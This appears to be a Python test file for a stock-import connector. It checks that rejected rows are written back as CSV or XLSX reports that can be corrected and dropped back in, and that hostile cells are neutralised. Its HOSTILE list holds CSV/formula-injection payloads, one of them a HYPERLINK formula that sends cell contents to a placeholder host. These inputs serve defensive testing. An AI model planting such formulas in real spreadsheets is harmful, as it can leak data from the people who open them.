"""The rejects report: same format as the source, safe cells, and re-droppable when fixed."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from connector.cells import safe_text
from connector.readers import Export, Reject, read_export
from connector.readers.mapping import match_mapping
from connector.readers.rejects import _safe, write_rejects
from tests.reader_support import (
    CP1252_MAPPING,
    WAREHOUSE_MAPPING,
    basic,
    mapping,
    rows_of,
    write_text_file,
    write_workbook,
)

WHEN = datetime(2025, 3, 12, 10, 15, 0)
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"ver")', "@SUM(A1)", "\t=1+1", "+54 11", "-2+3"]


def _csv_rows(path: Path, encoding: str = "cp1252") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding)), delimiter=";"))


def test_csv_report_round_trip(tmp_path: Path) -> None:
    erp = mapping(tmp_path, CP1252_MAPPING)
    source = write_text_file(
        tmp_path / "stock-erp.csv",
        [
            "Listado de stock;;;;",
            "Código;Descripción;Cantidad;Precio c/IVA;Costo",
            "0001234;Ñandú azul;15;1.234,50;800",
            "0001235;Tornillo;-3;12,5;",
            "0001236;Arandela;2;0;",
        ],
    )
    export = read_export(source, erp)
    outbox = tmp_path / "outbox"
    report = write_rejects(outbox, export, export.rejects, WHEN)
    assert report.name == "rejects-stock-erp-20250312-101500.csv"
    assert _csv_rows(report) == [
        ["Listado de stock", "", "", "", ""],
        ["Código", "Descripción", "Cantidad", "Precio c/IVA", "Costo", "line", "reason"],
        ["0001235", "Tornillo", "'-3", "12,5", "", "4", _reason(export, 4)],
        ["0001236", "Arandela", "2", "0", "", "5", _reason(export, 5)],
    ]
    assert report.read_bytes().startswith("Listado".encode("cp1252"))

    fixed = tmp_path / "inbox" / report.name
    fixed.parent.mkdir()
    fixed.write_bytes(report.read_bytes().replace(b";'-3;", b";3;").replace(b";0;;5;", b";1,5;;5;"))
    assert match_mapping(fixed, [erp]) is erp
    again = read_export(fixed, erp)
    assert again.rejects == []
    assert [(r["sku"], r["quantity"], r["price_with_taxes_e4"]) for r in rows_of(again.table)] == [
        ("0001235", 3, 125_000),
        ("0001236", 2, 15_000),
    ]


def _reason(export: Export, line: int) -> str:
    return next(r.reason for r in export.rejects if r.line == line)


def test_csv_report_keeps_bom_sep_line_and_delimiter(tmp_path: Path) -> None:
    source = tmp_path / "stock.csv"
    source.write_bytes("\ufeffsep=|\r\nSKU|Stock\r\nÑ-1|x\r\n".encode())
    export = read_export(source, basic(tmp_path))
    report = write_rejects(tmp_path / "out", export, export.rejects, WHEN)
    data = report.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfsep=|\r\nSKU|Stock|line|reason\r\n")
    assert "Ñ-1|x|3|".encode() in data


def test_hostile_cells_are_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    lines = ["SKU;Descripción;Stock"] + [f"H{n};{text};-1" for n, text in enumerate(HOSTILE)]
    source = tmp_path / "stock.csv"
    source.write_bytes(("\r\n".join(_quote(line) for line in lines) + "\r\n").encode("utf-8"))
    export = read_export(source, basic(tmp_path))
    assert len(export.rejects) == len(HOSTILE)
    report = write_rejects(tmp_path / "out", export, export.rejects, WHEN)
    descriptions = [row[1] for row in _csv_rows(report, "utf-8")[1:]]
    assert all(text.startswith("'") for text in descriptions), descriptions

    book = write_workbook(
        tmp_path / "stock.xlsx",
        {
            "Depósito Central": [["t"], ["SKU", "Descripción", "Stock", "Precio"]]
            + [[f"H{n}", text, -1, 1] for n, text in enumerate(HOSTILE)]
        },
    )
    one_sheet = WAREHOUSE_MAPPING.replace(', "Depósito Norte"', "")
    xlsx_export = read_export(book, mapping(tmp_path, one_sheet, name="x.toml"))
    xlsx_report = write_rejects(tmp_path / "out", xlsx_export, xlsx_export.rejects, WHEN)
    sheet = load_workbook(xlsx_report)["Depósito Central"]
    cells = [row[1] for row in sheet.iter_rows(min_row=3)]
    assert all(cell.data_type == "s" and str(cell.value).startswith("'") for cell in cells)


def _quote(line: str) -> str:
    return ";".join(
        f'"{cell}"' if "\t" in cell or '"' in cell else cell for cell in line.split(";")
    )


def test_xlsx_report_round_trip_with_text_cells(tmp_path: Path) -> None:
    erp = mapping(tmp_path, WAREHOUSE_MAPPING)
    source = write_workbook(
        tmp_path / "stock.xlsx",
        {
            "Depósito Central": [
                ["Stock central"],
                ["Código", "Descripción", "Stock", "Precio"],
                ["0001234", "Ñandú", 5, 1234.5],
                ["0000099", "Mal", -1, 10.25],
            ],
            "Depósito Norte": [
                ["Stock norte"],
                ["Código", "Descripción", "Stock", "Precio"],
                ["0000099", "Mal", 4, 10.25],
            ],
            "Otra": [["no se lee"]],
        },
    )
    export = read_export(source, erp)
    assert [(r.sheet, r.line) for r in export.rejects] == [
        ("Depósito Central", 4),
        ("Depósito Norte", 3),
    ]
    report = write_rejects(tmp_path / "out", export, export.rejects, WHEN)
    assert report.name == "rejects-stock-20250312-101500.xlsx"
    book = load_workbook(report)
    assert book.sheetnames == ["Depósito Central", "Depósito Norte", "Otra"]
    central = book["Depósito Central"]
    values = [[cell.value for cell in row] for row in central.iter_rows()]
    assert values[:2] == [
        ["Stock central", None, None, None, None, None],
        ["Código", "Descripción", "Stock", "Precio", "line", "reason"],
    ]
    assert values[2][:5] == ["0000099", "Mal", "'-1", "10,25", "4"]
    assert all(
        cell.data_type == "s" and cell.number_format == "@"
        for row in central.iter_rows(min_row=3)
        for cell in row
    )

    central["C3"].value = "1"
    fixed = tmp_path / "inbox" / report.name
    fixed.parent.mkdir()
    book.save(fixed)
    assert match_mapping(fixed, [erp]) is erp
    again = read_export(fixed, erp)
    assert again.rejects == []
    assert [(r["sku"], r["quantity"], r["price_e4"]) for r in rows_of(again.table)] == [
        ("0000099", 5, 102_500)
    ]


def test_caller_rejects_use_the_original_row_or_just_the_sku(tmp_path: Path) -> None:
    source = write_text_file(tmp_path / "stock.csv", ["SKU;Descripción;Stock", "A;x;1", "B;y;2"])
    export = read_export(source, basic(tmp_path))
    rejects = [
        Reject(2, "", "A", "not in the Alephee catalog", export.original(2)),
        Reject(0, "", "Z9", "Alephee: producto inexistente"),
    ]
    first = write_rejects(tmp_path / "out", export, rejects, WHEN)
    second = write_rejects(tmp_path / "out", export, rejects, WHEN)
    assert first != second and first.exists() and second.exists()
    assert _csv_rows(first) == [
        ["SKU", "Descripción", "Stock", "line", "reason"],
        ["A", "x", "1", "2", "not in the Alephee catalog"],
        ["Z9", "", "", "0", "Alephee: producto inexistente"],
    ]


@given(st.text(max_size=40))
def test_the_fast_cell_check_agrees_with_safe_text(text: str) -> None:
    assert _safe(text) == safe_text(text)
